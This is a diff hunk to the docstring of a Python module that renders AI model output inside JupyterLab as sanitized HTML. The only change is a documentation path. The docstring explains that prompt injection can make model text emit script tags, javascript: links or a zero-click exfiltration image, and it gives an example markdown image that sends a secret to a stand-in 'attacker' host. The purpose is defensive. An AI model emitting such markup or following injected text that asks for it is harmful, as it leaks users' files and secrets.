@@ -1,7 +1,7 @@
 """Kernel-side rendering of model output for the magics: markdown → sanitized HTML, MIME bundles.
 
 This is a security boundary. JupyterLab trusts outputs created in the session, so any HTML we
-emit runs with access to the user's kernel and files (notebook-platform.md §9.1). Model text is
+emit runs with access to the user's kernel and files (docs/notebook-facts.md §9.1). Model text is
 untrusted: a prompt injection can make it emit ``<script>``, ``javascript:`` links or zero-click
 exfiltration images (``![x](https://attacker/p.png?q=<secret>)``). Hence two layers:
 
